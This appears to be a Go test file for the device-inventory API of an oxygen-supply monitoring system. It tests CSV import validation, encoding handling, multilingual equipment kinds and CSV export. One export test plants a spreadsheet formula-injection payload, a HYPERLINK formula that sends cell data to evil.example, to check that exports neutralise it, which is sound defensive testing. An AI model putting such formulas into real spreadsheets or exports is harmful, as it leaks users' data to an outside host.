package api

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"github.com/oxywatch/oxywatch/internal/i18n"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/oxywatch/oxywatch/internal/plant"
)

func TestImportInventory(t *testing.T) {
	cases := []struct {
		name                       string
		who                        string
		body                       string
		created, updated, rejected int
		rowErrors                  map[int]string // line → part of the error
	}{
		{name: "good rows", who: "admin", body: "id,kind,model,facility,region,country,rated_flow_lpm,report_interval_s\n" +
			"k-1,psa,OG-15,f-north,north,UG,500,60\nk-2,concentrator,,f-north,north,UG,10,\nn-psa-1,psa,,f-north,north,UG,450,60\n",
			created: 2, updated: 1},
		{name: "broken rows kept apart", who: "admin", body: "id,kind,rated_flow_lpm,report_interval_s,region\n" +
			"k-1,psa,500,60,north\n" +
			"bad id!,psa,1,1,north\n" +
			"k-3,rocket,1,1,north\n" +
			"k-4,psa,lots,1,north\n" +
			"k-5,psa,1,1.5,north\n" +
			"k-6,psa,-3,1,north\n" +
			"k-7,psa,1,1,north,extra\n" +
			"\n" +
			"k-8,Concentrator,\"7,5\",30,north\n",
			created: 2, rejected: 6, rowErrors: map[int]string{3: "id", 4: "kind", 5: "rated_flow_lpm", 6: "report_interval_s", 7: "rated_flow_lpm", 8: "fields"}},
		{name: "BOM and semicolons and CRLF", who: "admin", body: "\ufeffID;Kind;Region\r\nk-1;psa;north\r\nk-2;;north\r\n", created: 2},
		{name: "bare quote", who: "admin", body: "id,kind\nk-1,psa\nk-2,\"ps\"a\"\nk-3,psa\n", created: 2, rejected: 1, rowErrors: map[int]string{3: "malformed"}},
		{name: "latin-1 row", who: "admin", body: "id,kind,facility\nk-1,psa,H\xf4pital\nk-2,psa,Hôpital\n", created: 1, rejected: 1, rowErrors: map[int]string{2: "UTF-8"}},
		{name: "region-limited admin", who: "north-admin", body: "id,kind,region\nk-1,psa,north\nk-2,psa,south\ns-psa-1,psa,north\n",
			created: 1, rejected: 2, rowErrors: map[int]string{3: "outside", 4: "outside"}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			f := newFixture(t)
			var res ImportResult
			f.ok(c.who, "POST", "/api/v1/devices/import", c.body, &res)
			if res.Created != c.created || res.Updated != c.updated || res.Rejected != c.rejected || len(res.Errors) != c.rejected {
				t.Fatalf("got %+v, want created %d updated %d rejected %d", res, c.created, c.updated, c.rejected)
			}
			for _, e := range res.Errors {
				want, ok := c.rowErrors[e.Row]
				if !ok || !strings.Contains(e.Error, want) {
					t.Errorf("row %d: got error %q, want one about %q", e.Row, e.Error, want)
				}
				if !utf8.ValidString(e.ID) {
					t.Errorf("row %d: the id in the answer is not UTF-8", e.Row)
				}
			}
		})
	}
}

func TestImportInventoryGoodRowsAreSaved(t *testing.T) {
	f := newFixture(t)
	var res ImportResult
	f.ok("admin", "POST", "/api/v1/devices/import", "id,kind,facility,region,country,rated_flow_lpm\nk-1,psa,f-east,east,UG,\"500.5\"\nk-2,rocket\n", &res)
	var d plant.Device
	f.ok("admin", "GET", "/api/v1/devices/k-1", nil, &d)
	if d.Kind != plant.KindPSA || d.Region != "east" || d.RatedFlowLPM != 500.5 {
		t.Errorf("got %+v", d)
	}
	wantProblem(t, f.do("admin", "GET", "/api/v1/devices/k-2", nil), http.StatusNotFound)
}

func TestImportInventoryRefusesFiles(t *testing.T) {
	utf16 := []byte{0xff, 0xfe, 'i', 0, 'd', 0, '\n', 0}
	cases := map[string]struct {
		body []byte
		want int
	}{
		"empty":        {nil, 400},
		"no id column": {[]byte("name,kind\nx,psa\n"), 400},
		"twice":        {[]byte("id,ID\nx,y\n"), 400},
		"UTF-16":       {utf16, 400},
		"binary":       {[]byte("\x00\x01\x02\xff\xfe"), 400},
		"huge":         {bytes.Repeat([]byte("k-1,psa,north\n"), 1<<20), 413},
	}
	for name, c := range cases {
		t.Run(name, func(t *testing.T) {
			f := newFixture(t)
			wantProblem(t, f.do("admin", "POST", "/api/v1/devices/import", c.body), c.want)
			var list List[plant.Device]
			f.ok("admin", "GET", "/api/v1/devices", nil, &list)
			if len(list.Items) != 3 {
				t.Errorf("a refused file changed the registry: %d devices", len(list.Items))
			}
		})
	}
}

// FuzzParseInventory: any bytes give rows or an error, never a panic, and
// every row is either an error or a well-formed record with a line number.
func FuzzParseInventory(f *testing.F) {
	for _, seed := range []string{
		"id,kind\nk-1,psa\n", "\ufeffid;kind\r\nk;psa", "id\n\"unterminated\n", "id,kind\nk-1,psa,x,y\n",
		"id,kind\n\xff\xfe,psa\n", "\xff\xfei\x00d\x00", "", "id\n\n\n\n",
	} {
		f.Add([]byte(seed))
	}
	f.Fuzz(func(t *testing.T, body []byte) {
		rows, cols, _, err := parseInventory(body, csvColumns)
		if err != nil {
			return
		}
		if _, ok := cols["id"]; !ok {
			t.Fatal("parsed without an id column")
		}
		for _, r := range rows {
			if r.line < 1 {
				t.Fatalf("row without a line number: %+v", r)
			}
			if r.err == nil {
				if _, _, err := rowDevice(r.fields, cols, i18n.New(i18n.French)); err != nil && err.Error() == "" {
					t.Fatal("empty error")
				}
			}
		}
	})
}

// TestCSVExportNeutralisesFormulas (issue 13 finding 10): the device export
// writes text cells a spreadsheet would run as formulas with a leading ',
// keeps numbers as numbers, and imports back to the same values.
func TestCSVExportNeutralisesFormulas(t *testing.T) {
	f := newFixture(t)
	hyperlink := `=HYPERLINK("http://evil.example/?d="&A1,"details")`
	f.ok("admin", "PUT", "/api/v1/devices/x-1", map[string]any{"kind": "psa", "model": hyperlink, "facility": "@f-x", "region": "+east", "country": "-UG", "rated_flow_lpm": 12.5}, nil)
	rec := f.do("viewer", "GET", "/api/v1/devices?format=csv&region=%2Beast", nil)
	recs, err := csv.NewReader(strings.NewReader(rec.Body.String())).ReadAll()
	if err != nil || len(recs) != 2 {
		t.Fatalf("got %d %q (%v), want a header and one row", rec.Code, rec.Body, err)
	}
	want := []string{"x-1", "psa", "'" + hyperlink, "'@f-x", "'+east", "'-UG", "12.5", "0", "", "", "", "", "pipeline", "outlet", "no_data", ""}
	if !slices.Equal(recs[1], want) {
		t.Errorf("exported row: got %q, want %q", recs[1], want)
	}
	var res ImportResult
	f.ok("admin", "POST", "/api/v1/devices/import", rec.Body.String(), &res)
	var d plant.Device
	f.ok("admin", "GET", "/api/v1/devices/x-1", nil, &d)
	if res.Updated != 1 || d.Model != hyperlink || d.Facility != "@f-x" || d.Region != "+east" || d.Country != "-UG" {
		t.Errorf("re-import: got %+v and %+v, want the values as they were", res, d)
	}
}

// TestImportKindsInEveryLanguage: a ministry inventory may name kinds in
// English, French or Portuguese, any case, with or without accents; an
// unknown word is rejected with its row, its column and the words accepted,
// in the reader's language (Accept-Language).
func TestImportKindsInEveryLanguage(t *testing.T) {
	f := newFixture(t)
	body := "id;type;kind;region\n" +
		"fr-1;;usine PSA;north\n" +
		"fr-2;;Concentrateur;north\n" +
		"fr-3;;réservoir d'oxygène liquide;north\n" +
		"fr-4;;RAMPE DE BOUTEILLES;north\n" +
		"pt-1;;concentrador;north\n" +
		"pt-2;;Central PSA;north\n" +
		"pt-3;;tanque de oxigenio liquido;north\n" +
		"pt-4;;Bateria de Cilindros;north\n" +
		"en-1;;Cylinder bank;north\n" +
		"xx-1;;fusée;north\n"
	for _, tc := range []struct{ accept, want string }{
		{"fr-FR,fr;q=0.9", "colonne kind\u00a0: \"fusée\" n’est pas un type d’équipement\u00a0; écrivez l’un de\u00a0: centrale PSA, concentrateur, réservoir d’oxygène liquide, rampe de bouteilles (ou les codes psa, concentrator, lox_tank, cylinder_bank)"},
		{"pt-MZ", `coluna kind: "fusée" não é um tipo de equipamento; escreva um de: central PSA, concentrador, tanque de oxigénio líquido, central de cilindros (ou os códigos`},
		{"en", `column kind: "fusée" is not a kind of equipment; write one of: PSA plant, concentrator, LOX tank, cylinder bank (or the codes psa, concentrator, lox_tank, cylinder_bank)`},
	} {
		req := httptest.NewRequest("POST", "/api/v1/devices/import", strings.NewReader(body))
		req.Header.Set("Authorization", "Bearer "+f.tok["admin"])
		req.Header.Set("Content-Type", "text/csv")
		req.Header.Set("Accept-Language", tc.accept)
		rec := httptest.NewRecorder()
		f.h.ServeHTTP(rec, req)
		var res ImportResult
		if err := json.Unmarshal(rec.Body.Bytes(), &res); err != nil || rec.Code != 200 {
			t.Fatalf("%d %s", rec.Code, rec.Body)
		}
		if res.Created+res.Updated != 9 || res.Rejected != 1 || len(res.Errors) != 1 || res.Errors[0].Row != 11 || res.Errors[0].ID != "xx-1" {
			t.Fatalf("%s: got %+v, want 9 saved and row 11 (xx-1) rejected", tc.accept, res)
		}
		if !strings.Contains(res.Errors[0].Error, tc.want) {
			t.Errorf("%s: row 11 says %q, want %q in it", tc.accept, res.Errors[0].Error, tc.want)
		}
	}
	for id, want := range map[string]plant.Kind{
		"fr-1": plant.KindPSA, "fr-2": plant.KindConcentrator, "fr-3": plant.KindLOXTank, "fr-4": plant.KindCylinderBank,
		"pt-1": plant.KindConcentrator, "pt-2": plant.KindPSA, "pt-3": plant.KindLOXTank, "pt-4": plant.KindCylinderBank, "en-1": plant.KindCylinderBank,
	} {
		var d plant.Device
		f.ok("admin", "GET", "/api/v1/devices/"+id, nil, &d)
		if d.Kind != want {
			t.Errorf("%s: kind %q, want %q", id, d.Kind, want)
		}
	}
}
